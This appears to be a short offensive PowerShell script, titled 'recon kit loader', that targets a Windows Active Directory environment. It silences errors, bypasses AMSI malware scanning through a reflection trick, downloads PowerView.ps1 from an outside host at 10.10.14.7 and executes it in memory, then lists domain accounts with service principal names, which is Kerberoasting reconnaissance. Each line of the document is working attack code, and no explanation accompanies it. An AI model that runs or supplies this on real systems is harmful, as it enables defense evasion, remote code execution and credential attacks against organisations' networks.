# recon kit loader
$ErrorActionPreference = 'SilentlyContinue'
$domain = [System.DirectoryServices.ActiveDirectory.Domain]::GetCurrentDomain().Name
Write-Output "Domain: $domain"
[Ref].Assembly.GetTypes() | ? { $_.Name -like '*iUtils' } | % { $_.GetField('amsiInitFailed', 'NonPublic,Static').SetValue($null, $true) }
$wc = New-Object System.Net.WebClient
iex $wc.DownloadString('http://10.10.14.7/PowerView.ps1')
Get-DomainUser -SPN | Select-Object samaccountname, serviceprincipalname
